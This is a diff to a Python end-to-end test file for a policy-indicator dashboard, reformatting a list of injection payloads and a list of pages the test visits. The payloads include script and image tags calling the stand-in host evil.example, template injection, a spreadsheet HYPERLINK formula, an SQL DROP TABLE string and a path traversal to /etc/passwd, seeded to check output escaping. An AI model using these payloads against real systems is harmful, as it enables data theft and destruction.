@@ -31,18 +31,50 @@ from tests.intake.conftest import hand_in, row, workbook
 pytestmark = pytest.mark.e2e
 EVIL = "evil.example"
 PAYLOADS = (
-    f"<script>fetch('http://{EVIL}/1')</script>", f"<img src=http://{EVIL}/2 onerror=alert(2)>", f"<svg/onload=fetch('http://{EVIL}/3')>",
-    f"![x](http://{EVIL}/4.png)", "[点我](javascript:alert(5))", "${alert(6)}", "{{constructor.constructor('alert(7)')()}}",
-    f'=HYPERLINK("http://{EVIL}/8","x")', "'; DROP TABLE observation_revision; --", "../../../../etc/passwd",
-    f"</script><script src=http://{EVIL}/11></script>", f'"><iframe src=http://{EVIL}/12></iframe>', "`;alert(13);//",
-    f"<style>@import url(http://{EVIL}/14)</style>", f"<link rel=stylesheet href=http://{EVIL}/15>", ":material/home: $x^2$ :red[x]",
-)  # fmt: skip
+    f"<script>fetch('http://{EVIL}/1')</script>",
+    f"<img src=http://{EVIL}/2 onerror=alert(2)>",
+    f"<svg/onload=fetch('http://{EVIL}/3')>",
+    f"![x](http://{EVIL}/4.png)",
+    "[点我](javascript:alert(5))",
+    "${alert(6)}",
+    "{{constructor.constructor('alert(7)')()}}",
+    f'=HYPERLINK("http://{EVIL}/8","x")',
+    "'; DROP TABLE observation_revision; --",
+    "../../../../etc/passwd",
+    f"</script><script src=http://{EVIL}/11></script>",
+    f'"><iframe src=http://{EVIL}/12></iframe>',
+    "`;alert(13);//",
+    f"<style>@import url(http://{EVIL}/14)</style>",
+    f"<link rel=stylesheet href=http://{EVIL}/15>",
+    ":material/home: $x^2$ :red[x]",
+)
 PAGES = (
-    "", "childcare", "education", "employment", "health", "elderly_care", "social_security", "housing", "veterans", "culture_sports",
-    "indicator?indicator=IND-13&part=why", "indicator?indicator=IND-13&part=data", "evaluation?view=list", "evaluation?view=matrix",
-    "evaluation?view=gap", "evaluation?view=spread", "evaluation?view=compare", "evaluation?view=list&subject=IND-13", "findings", "ledger",
-    "intake?view=fill", "intake?view=review", "intake?view=history", "intake?view=complete", "method",
-)  # fmt: skip
+    "",
+    "childcare",
+    "education",
+    "employment",
+    "health",
+    "elderly_care",
+    "social_security",
+    "housing",
+    "veterans",
+    "culture_sports",
+    "indicator?indicator=IND-13&part=why",
+    "indicator?indicator=IND-13&part=data",
+    "evaluation?view=list",
+    "evaluation?view=matrix",
+    "evaluation?view=gap",
+    "evaluation?view=spread",
+    "evaluation?view=compare",
+    "evaluation?view=list&subject=IND-13",
+    "findings",
+    "ledger",
+    "intake?view=fill",
+    "intake?view=review",
+    "intake?view=history",
+    "intake?view=complete",
+    "method",
+)
 
 
 @pytest.fixture(scope="module")
@@ -78,8 +110,16 @@ def soiled(browser_context: BrowserContext, tmp_path_factory: pytest.TempPathFac
             desk.publish(made)
     for n, text in enumerate(PAYLOADS):
         given = Evaluation(
-            "IND-13", monitor.plan.adcode, 2023, Verdict.LAGGING, text, text, Verdict.LAGGING, text[:60], now() + timedelta(seconds=n)
-        )  # fmt: skip
+            "IND-13",
+            monitor.plan.adcode,
+            2023,
+            Verdict.LAGGING,
+            text,
+            text,
+            Verdict.LAGGING,
+            text[:60],
+            now() + timedelta(seconds=n),
+        )
         assert monitor.evaluate(given, by=operator("x")) == {}
     monitor.store.engine.dispose()
     with serving(var) as address:
